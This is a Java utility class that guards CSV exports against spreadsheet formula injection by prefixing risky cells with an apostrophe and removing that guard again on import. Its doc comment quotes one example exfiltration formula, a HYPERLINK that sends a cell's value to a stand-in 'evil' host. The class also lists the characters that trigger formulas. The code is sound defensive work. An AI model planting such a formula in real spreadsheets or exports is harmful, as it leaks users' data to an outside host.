package org.liaison.support.text;

/**
 * CSV cells that a spreadsheet would run as formulas ({@code =HYPERLINK("https://evil/?"&B2)}) are written with a
 * leading apostrophe, which spreadsheets show as "text follows" and do not display. Every CSV export goes through
 * {@link #neutralise}, every CSV import through {@link #restore}, so an export imported again gives back exactly
 * what was stored, whatever it was (a value that itself starts with an apostrophe gets one more).
 */
public final class SpreadsheetCells {

    private SpreadsheetCells() {
    }

    /** The cell as a CSV export writes it. */
    public static String neutralise(String cell) {
        return needsGuard(cell) ? "'" + cell : cell;
    }

    /** The stored value of a cell read from a CSV that {@link #neutralise} wrote. */
    public static String restore(String cell) {
        return cell != null && cell.length() > 1 && cell.charAt(0) == '\'' && needsGuard(cell.substring(1))
                ? cell.substring(1) : cell;
    }

    /** Starts with what spreadsheets read as a formula (OWASP's list: = + - @ tab CR), or with the guard itself. */
    private static boolean needsGuard(String cell) {
        if (cell == null || cell.isEmpty()) {
            return false;
        }
        char first = cell.charAt(0);
        return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r'
                || first == '\'';
    }
}
